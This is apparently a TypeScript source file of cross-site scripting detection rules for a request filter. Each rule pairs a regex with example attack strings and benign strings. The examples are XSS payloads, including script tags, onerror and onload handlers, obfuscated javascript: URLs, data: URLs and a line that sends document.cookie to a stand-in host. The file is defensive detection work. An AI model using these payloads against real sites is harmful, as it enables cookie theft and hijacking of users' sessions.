import type { BuiltInRule } from "./built-in-rule.ts";
import {
  AMPERSAND,
  ANY_QUOTE,
  COLON,
  DASH,
  DOT,
  ENCODED_LETTER,
  EQUALS,
  EXCLAMATION,
  GREATER_THAN,
  HASH,
  LESS_THAN,
  OPEN_PAREN,
  PIPE,
  SEMICOLON,
  SLASH,
  SPACE,
  STAR,
  WORD_START,
} from "./spellings.ts";

const LT = LESS_THAN;
/** The end of a tag name: a name must not continue (`<scripture>` is no script). */
const NAME_END = "(?:[^0-9a-z_-]|$)";
/**
 * Characters a browser ignores inside a URL scheme (tab, LF, CR), plain or percent-encoded. Their
 * HTML character references (`&Tab;`, `&#9;`) would make this, repeated ten times, the largest
 * program by far; XSS_HTML_ENTITY catches those at Strict.
 */
const IGNORED_IN_SCHEME = String.raw`(?:[\t\n\r]|%(?:25)?0[9ad])`;
/** `:` or its HTML character references `&colon;`, `&#58;`, `&#x3a;`. */
const SCHEME_COLON = `(?:${COLON}|${AMPERSAND}(?:colon|${HASH}(?:0*58|x0*3a))${SEMICOLON}?)`;

/**
 * What follows the colon of a script URL in an attack: anything but a space (or `_`, a space in
 * wiki titles). "JavaScript: The Good Parts" is a search term; `javascript:%0aalert(1)` is an
 * attack (`%0` may start a newline).
 */
const SCRIPT_AFTER_COLON = "(?:[^ \\t+%&_]|%(?:[013-9a-f]|2[1-9a-f]))";

/** `javascript` with scheme-ignored characters allowed between any two letters. */
const SPLIT_JAVASCRIPT = [..."javascript"].join(`${IGNORED_IN_SCHEME}*`);

const both = ["path", "query"] as const;

/**
 * The cross-site scripting family: markup and URLs that make a browser run script when the
 * application reflects a parameter into a page.
 */
export const XSS_RULES: readonly BuiltInRule[] = [
  // ---------------------------------------------------------------------------------------- Basic
  {
    key: "XSS_SCRIPT_TAG",
    family: "XSS",
    level: "Basic",
    locations: both,
    regex: `${LT}${SLASH}?script${NAME_END}`,
    description: "An opening or closing <script> tag",
    examples: [
      "<script>alert(1)</script>",
      "%3Cscript%3Ealert(1)%3C/script%3E",
      "%253cscript%253e",
      "<ScRiPt src=//x.example>",
      `"><script/src=x>`,
      "%3C%2Fscript%3E",
      "x<script",
    ],
    benign: ["scripture", "<scripture>", "a<b", "javascript-tutorial", "description"],
  },
  {
    key: "XSS_SCRIPT_URI",
    family: "XSS",
    level: "Basic",
    locations: both,
    regex: `(?:java|vb|live)script${COLON}${SCRIPT_AFTER_COLON}`,
    description: "A javascript: (or vbscript:) URL that runs script when followed as a link or loaded",
    examples: [
      "javascript:alert(1)",
      "JavaScript%3Aalert(document.domain)",
      "javascript%253Aalert(1)",
      "javascript:%0aalert(1)",
      "vbscript:msgbox(1)",
      "javascript://%0aalert(1)",
    ],
    benign: [
      "JavaScript: The Good Parts",
      "JavaScript%3A%20The%20Good%20Parts",
      "javascript+tutorial",
      "javascript:",
    ],
  },
  {
    key: "XSS_EVENT_HANDLER",
    family: "XSS",
    level: "Basic",
    locations: both,
    // preceded by a space, quote or slash: inside a tag; `?onload=initMap` (a parameter) passes
    regex: `(?:${SPACE}|${ANY_QUOTE}|${SLASH})on(?:error|load|mouseover|mouseenter|focus|focusin|click|toggle|pageshow|animationstart|begin|pointerover)${SPACE}*${EQUALS}`,
    description: "The event-handler attributes most used to run script (onerror=, onload=, onmouseover=...)",
    examples: [
      "<img src=x onerror=alert(1)>",
      "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
      "<svg/onload=alert(1)>",
      `" onmouseover="alert(1)`,
      "x%22%20onfocus%3Dalert(1)%20autofocus",
      "<body%0aonload%0a=alert(1)>",
    ],
    benign: ["onload", "online", "on error, retry", "click on load=3", "onerror"],
  },
  // ------------------------------------------------------------------------------------- Standard
  {
    key: "XSS_EVENT_HANDLER_ANY",
    family: "XSS",
    level: "Standard",
    locations: both,
    regex: `(?:${SPACE}|${ANY_QUOTE})on[a-z]{3,}${SPACE}*${EQUALS}|${LT}[0-9a-z]+${SLASH}on[a-z]{3,}${SPACE}*${EQUALS}`,
    description: "Any on<event>= attribute after a space or quote, or after <tag/",
    examples: [
      "<details open ontoggle=alert(1)>",
      `' onpointerenter='alert(1)`,
      "<x/onclick=alert(1)>",
      "%3Cdiv%20onanimationend%3Dalert(1)%3E",
    ],
    benign: ["online", "status online", "/settings/online=true", "once=1", "on+sale"],
  },
  {
    key: "XSS_DANGEROUS_TAG",
    family: "XSS",
    level: "Standard",
    locations: both,
    regex: `${LT}${SLASH}?(?:iframe|frame|frameset|svg|object|embed|applet|meta|link|base|img|image|video|audio|source|body|style|math|form|input|button|details|marquee|isindex|template|textarea|xmp|noscript|plaintext|keygen|portal)${NAME_END}`,
    description: "Tags that load content or carry script (<iframe, <svg, <img, <object, <style...)",
    examples: [
      "<iframe src=//x.example>",
      "%3Csvg%3E",
      "<img src=x>",
      "%253Cobject%20data%3Dx%3E",
      "</textarea><b>",
    ],
    benign: ["a<b", "1<2", "a < img", "<imagination>", "iframe"],
  },
  {
    key: "XSS_ENCODED_TAG_NAME",
    family: "XSS",
    level: "Standard",
    locations: both,
    regex: `${LT}${SLASH}?${ENCODED_LETTER}`,
    description: "A tag whose name starts with a percent-encoded letter, which only disguises it",
    examples: ["%3C%73cript%3E", "<%53vg/onload=alert(1)>", "%3c%2f%73cript"],
    benign: ["a<b", "%3C3", "<%20"],
  },
  {
    key: "XSS_ATTRIBUTE_BREAKOUT",
    family: "XSS",
    level: "Standard",
    locations: both,
    regex: `${ANY_QUOTE}${SPACE}*${SLASH}?${GREATER_THAN}${SPACE}*${LT}(?:[a-z!]|${SLASH}|${ENCODED_LETTER}|${EXCLAMATION})`,
    description: "A quote that ends an attribute value, then > and a new tag",
    examples: [`"><b>`, "%27%3E%3Ca%20href=x%3E", `'/><x>`, "%22%3E%3C%21--"],
    benign: [`{"a":"<b>"}`, `"a" > "b"`, "x'>y"],
  },
  {
    key: "XSS_JS_STRING_BREAKOUT",
    family: "XSS",
    level: "Standard",
    locations: both,
    // for a value reflected into a script string: close it, an operator, then a script global
    regex: `${ANY_QUOTE}${SPACE}*(?:${SEMICOLON}|${DASH}|\\+|%(?:25)?2b|${STAR}|${PIPE}{2}|${AMPERSAND}{2})${SPACE}*(?:alert|prompt|confirm|eval|fetch|import|settimeout|setinterval|document|window|top|self|this|location|constructor)(?:[^0-9a-z_]|$)`,
    description:
      "A quote that ends a JavaScript string, an operator, and a call or global (';alert(1)//, '-alert(1)-')",
    examples: [
      "';alert(1)//",
      "'-alert(1)-'",
      `"+document.cookie+"`,
      "%27%3Balert(1)%2F%2F",
      "x%22%2bwindow.name%2b%22",
    ],
    benign: ["Macy's-top-deals", "it's; alerting", "'a' + 'b'", "rock'n'roll"],
  },
  {
    key: "XSS_SCRIPT_URI_OBFUSCATED",
    family: "XSS",
    level: "Standard",
    locations: both,
    regex: `${SPLIT_JAVASCRIPT}${IGNORED_IN_SCHEME}*${SCHEME_COLON}${SCRIPT_AFTER_COLON}`,
    description: "A javascript: URL split by tabs or newlines, or with an HTML-encoded colon",
    examples: [
      "java%09script:alert(1)",
      "jav%0Aascript:alert(1)",
      "java%09script&colon;alert(1)",
      "javascript%26%2358%3Balert(1)",
      "j%0da%0dv%0da%0ds%0dc%0dr%0di%0dp%0dt%0d:x",
    ],
    benign: ["JavaScript: The Good Parts", "java script", "javascript-colon"],
  },
  {
    key: "XSS_DATA_URI",
    family: "XSS",
    level: "Standard",
    locations: both,
    regex: `data${SPACE}*${COLON}${SPACE}*(?:text${SLASH}(?:html|xml|javascript)|image${SLASH}svg|application${SLASH}(?:xhtml|xml|javascript|ecmascript|x-javascript))`,
    description: "A data: URL whose content is a document or script (data:text/html, data:image/svg+xml)",
    examples: [
      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
      "data%3Atext%2Fhtml,%3Cscript%3E",
      "data:image/svg+xml,<svg onload=alert(1)>",
    ],
    benign: ["data:image/png;base64,iVBORw0KGgo=", "metadata: text/plain", "data: text"],
  },
  {
    key: "XSS_DOM_ACCESS",
    family: "XSS",
    level: "Standard",
    locations: both,
    regex: `document${DOT}(?:cookie|domain|write|location)|window${DOT}(?:location|name)|fromcharcode|${DOT}(?:inner|outer)html`,
    description: "Script that reads cookies, writes the document or decodes character codes",
    examples: [
      "document.cookie",
      "new Image().src='//x/'+document%2Ecookie",
      "String.fromCharCode(88)",
      "x.innerHTML=y",
    ],
    benign: ["documentation", "cookie policy", "window cleaning"],
  },
  // --------------------------------------------------------------------------------------- Strict
  {
    key: "XSS_ANY_TAG",
    family: "XSS",
    level: "Strict",
    locations: both,
    regex: `${LT}(?:[a-z!]|${SLASH}|${ENCODED_LETTER}|${EXCLAMATION})`,
    description: "Anything that starts an HTML tag, closing tag or comment",
    examples: ["a<b", "<x>", "%3Cfoo", "<!--", "</p>"],
    benign: ["1<2", "a < b", "<3"],
  },
  {
    key: "XSS_JS_CALL",
    family: "XSS",
    level: "Strict",
    locations: both,
    regex: String.raw`${WORD_START}(?:alert|prompt|confirm|eval|settimeout|setinterval|atob|fetch|import|print)(?:${OPEN_PAREN}|\x60|%(?:25)?60)`,
    description: "Calls of JavaScript functions that show dialogs, evaluate strings or load code",
    examples: ["alert(1)", "prompt`1`", "eval(atob('YWxlcnQoMSk='))", "%22alert%281%29"],
    benign: ["red alert", "alerts(1)", "blueprint(2)"],
  },
  {
    key: "XSS_HTML_ENTITY",
    family: "XSS",
    level: "Strict",
    locations: both,
    regex: `${AMPERSAND}(?:${HASH}x?[0-9a-f]|(?:colon|tab|newline|lpar|rpar|lt|gt|quot|apos|grave)${SEMICOLON})`,
    description: "HTML character references, which can hide markup from filters that do not decode them",
    examples: ["%26%23106;avascript:", "&lt;script&gt;", "%26%23x3c%3B", "&colon;"],
    benign: ["a&b=c", "Tom & Jerry", "%26amp"],
  },
  {
    key: "XSS_ESCAPED_ANGLE",
    family: "XSS",
    level: "Strict",
    locations: both,
    regex: String.raw`(?:(?:\\|%(?:25)?5c)(?:u0{2}|x)|%u00)3c`,
    description: "JavaScript or IIS escapes of < (\\u003c, \\x3c, %u003c)",
    examples: ["\\u003cscript\\u003e", "%5Cx3csvg", "%u003cimg"],
    benign: ["u003c", "\\n3c"],
  },
];
